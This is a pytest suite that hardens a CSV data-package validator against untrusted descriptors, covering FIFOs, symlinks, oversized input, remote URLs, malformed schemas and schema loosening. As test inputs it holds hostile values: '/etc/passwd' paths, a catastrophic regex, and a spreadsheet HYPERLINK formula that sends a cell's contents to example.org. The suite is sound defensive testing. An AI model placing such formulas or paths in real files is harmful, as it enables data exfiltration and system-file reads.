"""An untrusted descriptor cannot make the validator read outside the package, block on a
special file, reach the network or loosen the rules: each attempt is one exact error line."""

from __future__ import annotations

import csv
import json
import os
import socket
from pathlib import Path
from typing import Any

import pytest

from conftest import read_rows, set_cell
from damage import (
    csv_path,
    deadline,
    descriptor,
    edit_descriptor,
    edit_schema,
    resource,
    restamp,
    validate_cli,
)
from ukraine_talks_data.validate import validate_package

pytestmark = pytest.mark.skipif(os.name != "posix", reason="FIFOs, symlinks and SIGALRM")


def _actors(package: Path, **changes: Any) -> None:
    edit_descriptor(package, lambda d: resource(d, "actors").update(changes))


# Special files never block or crash --------------------------------------------------------


def test_fifo_as_a_table_does_not_hang(package: Path) -> None:
    os.mkfifo(package.parent / "data" / "pipe.csv")
    _actors(package, path="data/pipe.csv")
    with deadline(60):
        code, lines = validate_cli(package)
    assert code == 1
    assert lines == [
        "data/pipe.csv: not-a-file: the path is not a regular file (a FIFO, socket or device is "
        "never read) (resource 'actors' in datapackage.json)"
    ]


def test_fifo_as_a_seed_does_not_hang(package: Path) -> None:
    source = read_rows(csv_path(package, "sources"))[0]
    seed = package.parent / source["path"]
    seed.unlink()
    os.mkfifo(seed)
    name = next(r["name"] for r in descriptor(package)["resources"] if r["path"] == source["path"])
    with deadline(60):
        code, lines = validate_cli(package)
    assert code == 1
    assert lines == [
        f"data/sources.csv:2:path: source-unreadable: the seed file is not a regular file (a "
        f"FIFO, socket or device is never read) (value: {source['path']!r})",
        f"{source['path']}: not-a-file: the path is not a regular file (a FIFO, socket or device "
        f"is never read) (resource '{name}' in datapackage.json)",
    ]


def test_symlink_to_dev_zero_is_refused_before_reading(package: Path) -> None:
    (package.parent / "data" / "zero.csv").symlink_to("/dev/zero")
    _actors(package, path="data/zero.csv")
    with deadline(60):
        code, lines = validate_cli(package)
    assert code == 1
    assert lines == [
        "datapackage.json::actors.path: unsafe-path: resource path leads outside the package "
        "folder (through a symlink) (value: 'data/zero.csv')"
    ]


def test_symlink_inside_the_package_to_a_fifo(package: Path) -> None:
    os.mkfifo(package.parent / "data" / "pipe")
    (package.parent / "data" / "link.csv").symlink_to("pipe")
    _actors(package, path="data/link.csv")
    with deadline(60):
        code, lines = validate_cli(package)
    assert code == 1
    assert lines == [
        "data/link.csv: not-a-file: the path is not a regular file (a FIFO, socket or device is "
        "never read) (resource 'actors' in datapackage.json)"
    ]


def test_directory_as_a_table(package: Path) -> None:
    _actors(package, path="data")
    code, lines = validate_cli(package)
    assert code == 1
    assert lines == [
        "data: not-a-file: the path is a directory, not a file (resource 'actors' in "
        "datapackage.json)"
    ]


def test_descriptor_that_is_a_fifo(tmp_path: Path) -> None:
    fifo = tmp_path / "datapackage.json"
    os.mkfifo(fifo)
    with deadline(60):
        code, lines = validate_cli(fifo)
    assert (code, lines) == (
        1,
        [
            "datapackage.json: descriptor-error: is not a regular file (a FIFO, socket or "
            "device is never read)"
        ],
    )


# Pathological sizes finish in seconds with a bounded report ---------------------------------


def test_a_row_with_200000_extra_cells_is_cut_after_100(package: Path) -> None:
    path = csv_path(package, "actors")
    lines = path.read_text(encoding="utf-8").split("\n")
    width = len(next(csv.reader([lines[0]])))
    lines[1] += ",x" * 200_000
    path.write_text("\n".join(lines), encoding="utf-8")
    restamp(path, package)
    with deadline(300):
        code, out = validate_cli(package)
    assert code == 1
    listed = [
        f"data/actors.csv:2:column {width + n}: extra-cell: the row has more cells than the "
        "header (value: 'x')"
        for n in range(1, 101)
    ]
    summary = (
        f"data/actors.csv:2:column {width + 101}: extra-cell: the row has 200000 cells more than "
        "the header; the first 100 are reported one by one, the other 199900 (columns "
        f"{width + 101} to {width + 200_000}) only here (value: 'x')"
    )
    assert sorted(out) == sorted([*listed, summary])


def test_a_path_of_100000_characters_is_refused(package: Path) -> None:
    _actors(package, path="a" * 100_000)
    with deadline(60):
        code, lines = validate_cli(package)
    assert code == 1
    assert lines == [
        "datapackage.json::actors.path: unsafe-path: resource path is too long (100000 bytes, "
        "the longest name 100000); a path may have at most 1024 bytes, 255 per name (value: "
        f"'{'a' * 59}…{'a' * 59}')"
    ]


def test_a_catastrophic_pattern_runs_in_linear_time(package: Path) -> None:
    # Python's re takes about 2**40 steps for this cell; RE2, forty-one.
    def nested(s: dict[str, Any]) -> None:
        field = next(f for f in s["fields"] if f["name"] == "name")
        field["constraints"]["pattern"] = "([^!]+)+"

    edit_schema(package, "actors", nested)
    value = "a" * 40 + "!"
    number = set_cell(csv_path(package, "actors"), 0, "name", value)
    with deadline(120):
        code, lines = validate_cli(package, "--allow-schema-changes")
    assert code == 1
    assert lines == [
        f"data/actors.csv:{number}:name: constraint-error: must match the pattern ([^!]+)+ "
        f"(value: {value!r})"
    ]


def test_a_descriptor_of_20000_resources_is_read_in_linear_time(package: Path) -> None:
    count = 20_000
    schema = {"fields": [{"name": "a", "type": "integer"}]}

    def many(d: dict[str, Any]) -> None:
        d["resources"] += [
            {"name": f"extra{i}", "path": f"data/none{i}.csv", "schema": schema}
            for i in range(count)
        ]

    edit_descriptor(package, many)
    with deadline(600):
        code, lines = validate_cli(package, "--allow-schema-changes")
    assert code == 1
    assert sorted(lines) == sorted(
        f"data/none{i}.csv: file-missing: no file at this path (resource 'extra{i}' in "
        "datapackage.json)"
        for i in range(count)
    )


# Nothing reaches the network ------------------------------------------------------------


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Record (and refuse) every attempt to resolve a host or open a connection."""
    attempts: list[str] = []

    def refuse(*args: object, **kwargs: object) -> None:
        attempts.append(repr(args[:2]))
        raise OSError("network use during validation")

    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)
    return attempts


def test_remote_profiles_are_never_fetched(package: Path, no_network: list[str]) -> None:
    def remote(d: dict[str, Any]) -> None:
        d["profile"] = "https://example.org/profile.json"
        d["$schema"] = "https://example.org/schema.json"
        resource(d, "actors")["profile"] = "https://example.org/resource.json"
        resource(d, "actors")["$schema"] = "https://example.org/resource-schema.json"

    edit_descriptor(package, remote)
    code, lines = validate_cli(package)
    assert (code, lines) == (0, [])
    assert no_network == []


@pytest.mark.parametrize("key", ["schema", "dialect"])
def test_remote_schema_or_dialect_is_refused(
    package: Path, no_network: list[str], key: str
) -> None:
    _actors(package, **{key: "https://example.org/actors.json"})
    code, lines = validate_cli(package)
    assert code == 1
    assert lines == [
        f"datapackage.json::actors.{key}: unsafe-path: {key} path is a URL; only files inside "
        "the package folder are read (value: 'https://example.org/actors.json')"
    ]
    assert no_network == []


def test_json_schema_constraint_with_a_remote_ref_is_refused(
    package: Path, no_network: list[str]
) -> None:
    edit_schema(
        package,
        "actors",
        lambda s: (
            s["fields"][-1]["constraints"].__setitem__(
                "jsonSchema", {"$ref": "https://example.org/x.json"}
            )
            if "constraints" in s["fields"][-1]
            else s["fields"][-1].__setitem__(
                "constraints", {"jsonSchema": {"$ref": "https://example.org/x.json"}}
            )
        ),
    )
    last = descriptor_schema_field(package, "actors", -1)
    code, lines = validate_cli(package)
    assert code == 1
    assert lines == [
        f"schemas/actors.json::{last}.constraints.jsonSchema: schema-error: jsonSchema "
        "constraints are not supported (they can load remote schemas)"
    ]
    assert no_network == []


def descriptor_schema_field(package: Path, table: str, index: int) -> str:
    path = package.parent / resource(descriptor(package), table)["schema"]
    name: str = json.loads(path.read_text())["fields"][index]["name"]
    return name


# Readers other than local UTF-8 CSV are refused, not half-honoured ------------------------


@pytest.mark.parametrize(
    ("key", "value", "message"),
    [
        ("compression", "zip", "compressed files are not supported; store the CSV uncompressed"),
        ("format", "xlsx", "a table must be csv"),
        ("encoding", "latin-1", "only UTF-8 is supported; convert the file to UTF-8"),
        ("scheme", "https", "only local files are read (scheme 'file')"),
        ("innerpath", "/etc/passwd", "files inside archives are not supported"),
        (
            "url",
            "https://example.org/a.csv",
            "'url' is not supported; give a relative 'path' inside the package",
        ),
        ("bytes", "many", "must be a whole number, 0 or more"),
        (
            "hash",
            "md5:zz",
            "must be 'sha256:' followed by 64 hex digits (or an MD5 in 32 hex digits)",
        ),
    ],
)
def test_unsupported_resource_keys(package: Path, key: str, value: str, message: str) -> None:
    _actors(package, **{key: value})
    code, lines = validate_cli(package)
    assert code == 1
    assert lines == [
        f"datapackage.json::actors.{key}: descriptor-error: {message} (value: {value!r})"
    ]


def test_multipart_paths_are_refused(package: Path) -> None:
    _actors(package, extrapaths=["/etc/passwd"])
    code, lines = validate_cli(package)
    assert code == 1
    assert lines == [
        "datapackage.json::actors.extrapaths: descriptor-error: multipart resources are not "
        "supported; use one file per resource (value: '[\"/etc/passwd\"]')"
    ]


@pytest.mark.parametrize(
    ("key", "value", "canonical"),
    [("commentChar", "S", "null"), ("delimiter", ";", '","'), ("header", False, "true")],
)
def test_dialect_other_than_canonical_csv(
    package: Path, key: str, value: object, canonical: str
) -> None:
    _actors(package, dialect={"csv": {key: value}})
    shown = value if isinstance(value, str) else json.dumps(value)
    code, lines = validate_cli(package)
    assert code == 1
    assert lines == [
        f"datapackage.json::actors.dialect.{key}: dialect-error: must be {canonical}: only the "
        f"canonical CSV dialect is read (value: {shown!r})"
    ]


def test_resource_name_with_odd_characters(package: Path) -> None:
    index = next(i for i, r in enumerate(descriptor(package)["resources"]) if r["name"] == "actors")
    edit_descriptor(package, lambda d: d["resources"][index].__setitem__("name", "Actors\nX"))
    code, lines = validate_cli(package, "--allow-schema-changes")
    assert code == 1
    assert lines[0] == (
        f"datapackage.json::resources[{index}].name: descriptor-error: a resource name may hold "
        "only lowercase letters, digits, '-', '.' and '_' (value: 'Actors\\nX')"
    )


# Malformed schemas are errors, not tracebacks --------------------------------------------


@pytest.mark.parametrize(
    ("change", "location", "message"),
    [
        (
            lambda s: s["fields"].__setitem__(1, "name"),
            "fields[1]",
            "a field must be a JSON object",
        ),
        (
            lambda s: s["fields"][0].__setitem__("constraints", {"pattern": "(("}),
            "{0}.constraints.pattern",
            "is not a valid RE2 regular expression (missing ): ((); patterns run on RE2, which "
            "has no backreferences or look-arounds (value: '((')",
        ),
        (
            lambda s: s["fields"][0].__setitem__("constraints", {"pattern": "(?=a)a"}),
            "{0}.constraints.pattern",
            "is not a valid RE2 regular expression (invalid perl operator: (?=); patterns run on "
            "RE2, which has no backreferences or look-arounds (value: '(?=a)a')",
        ),
        (
            lambda s: s["fields"][0].__setitem__("type", "object"),
            "{0}.type",
            "type is not supported; use one of: string, integer, number, boolean, date, list, "
            "any (value: 'object')",
        ),
        # Forms stock Frictionless reads but this validator refuses (docs/performance.md):
        (
            lambda s: s["fields"][0].__setitem__("type", "datetime"),
            "{0}.type",
            "type is not supported; use one of: string, integer, number, boolean, date, list, "
            "any (value: 'datetime')",
        ),
        (
            lambda s: s["fields"][0].__setitem__("format", "%Y"),
            "{0}.format",
            "is not supported: typed cells are written in one canonical form (integers 42, "
            "numbers 3.5, booleans true/false, dates 2022-01-31) (value: '%Y')",
        ),
        (
            lambda s: s["fields"][0].__setitem__("constraints", {"minimum": 3}),
            "{0}.constraints.minimum",
            "does not apply to a string field (value: '3')",
        ),
        (
            lambda s: s.__setitem__("primaryKey", ["nope"]),
            "primaryKey",
            "no field of this name (value: 'nope')",
        ),
        (
            lambda s: s.__setitem__("fields", []),
            "fields",
            "a Table Schema needs a non-empty 'fields' list",
        ),
        (
            lambda s: s["fields"][0].__setitem__("constraints", {"minLength": -1}),
            "{0}.constraints.minLength",
            "must be a whole number, 0 or more (value: '-1')",
        ),
    ],
    ids=[
        "field-not-object",
        "bad-pattern",
        "look-ahead-pattern",
        "json-type",
        "datetime-type",
        "field-format",
        "constraint-of-another-type",
        "primary-key",
        "no-fields",
        "negative-length",
    ],
)
def test_malformed_schema(package: Path, change: Any, location: str, message: str) -> None:
    first = descriptor_schema_field(package, "actors", 0)
    edit_schema(package, "actors", change)
    code, lines = validate_cli(package)
    assert code == 1
    assert lines == [f"schemas/actors.json::{location.format(first)}: schema-error: {message}"]


# A fork cannot loosen the rules ------------------------------------------------------------


def test_loosened_schema_is_reported_and_the_reference_still_applies(package: Path) -> None:
    def loosen(s: dict[str, Any]) -> None:
        field = next(f for f in s["fields"] if f["name"] == "quote_type")
        field["constraints"].pop("enum")

    edit_schema(package, "statements", loosen)
    number = set_cell(csv_path(package, "statements"), 0, "quote_type", "rumour")
    code, lines = validate_cli(package)
    assert code == 1
    from ukraine_talks_data._version import __version__
    from ukraine_talks_data.package.schemas import table_schema

    enum = next(f for f in table_schema("statements")["fields"] if f["name"] == "quote_type")[
        "constraints"
    ]["enum"]
    assert lines == [
        f"data/statements.csv:{number}:quote_type: constraint-error: must be one of: "
        f"{', '.join(enum)} (value: 'rumour')",
        "schemas/statements.json::quote_type.constraints.enum: schema-changed: is missing; the "
        f"reference schema has {json.dumps(enum)} (ukraine-talks-data {__version__}; "
        "--allow-schema-changes skips this for a derived package)",
    ]
    assert validate_cli(package, "--allow-schema-changes") == (0, [])


def test_dropped_table_is_reported(package: Path) -> None:
    edit_descriptor(
        package,
        lambda d: d.__setitem__(
            "resources", [r for r in d["resources"] if r["name"] != "evidence"]
        ),
    )
    code, lines = validate_cli(package)
    assert code == 1
    assert lines == [
        "datapackage.json::evidence: missing-resource: the package has no table of this name; "
        "the reference package has it"
    ]


# Spreadsheet formulas: a warning, not an error ---------------------------------------------


def test_formula_in_a_text_cell_is_a_warning(package: Path) -> None:
    formula = '=HYPERLINK("https://example.org/?"&A1,"click")'
    number = set_cell(csv_path(package, "actors"), 0, "notes", formula)
    code, lines = validate_cli(package)
    assert code == 0
    assert lines == [
        f"data/actors.csv:{number}:notes: warning: formula-injection: a spreadsheet opening this "
        "CSV would run the cell as a formula; reword it so it does not start with '=', '+', '-' "
        f"or '@' (exports prefix such cells with ') (value: {formula!r})"
    ]
    report = validate_package(package)
    assert report.valid
    assert [(i.code, i.severity) for i in report.issues] == [("formula-injection", "warning")]


def test_table_files_have_no_size_limit_seeds_do(
    package: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A table file of any size is read (a 1M-statement package has 400 MB tables); other
    files keep their limit. Here the limit is lowered below every seed's size."""
    from ukraine_talks_data.validate.inputs import files

    root = package.parent
    seeds = sorted(p.relative_to(root).as_posix() for p in (root / "seeds").iterdir())
    limit = min((root / s).stat().st_size for s in seeds) - 1
    tables = [p for p in (root / "data").glob("*.csv") if p.stat().st_size > limit]
    monkeypatch.setattr(files, "MAX_FILE_BYTES", limit)
    report = validate_package(package)
    assert tables  # some table files are larger than the limit, and no issue names them
    assert not [i for i in report.issues if i.file.startswith("data/") and i.field != "path"]
    unreadable = [i for i in report.issues if i.code == "source-unreadable"]
    assert {i.message for i in unreadable} == {f"the seed file is larger than {limit:,} bytes"}
    assert sorted(str(i.value) for i in unreadable) == seeds
    resources = [i for i in report.issues if i.code == "file-too-large"]
    assert sorted(i.file for i in resources) == seeds


def test_a_length_beyond_any_text_is_checked_not_crashed_on(package: Path) -> None:
    """JSON allows minLength 10**30: every name is shorter, none is refused with a crash."""

    def huge(s: dict[str, Any]) -> None:
        field = next(f for f in s["fields"] if f["name"] == "name")
        field["constraints"]["minLength"] = 10**30

    edit_schema(package, "actors", huge)
    code, lines = validate_cli(package, "--allow-schema-changes")
    names = [r["name"] for r in csv.DictReader(csv_path(package, "actors").open(encoding="utf-8"))]
    assert code == 1
    assert lines == [
        f"data/actors.csv:{n}:name: constraint-error: must be at least {10**30} character(s) "
        f"long (value: {name!r})"
        for n, name in enumerate(names, start=2)
    ]
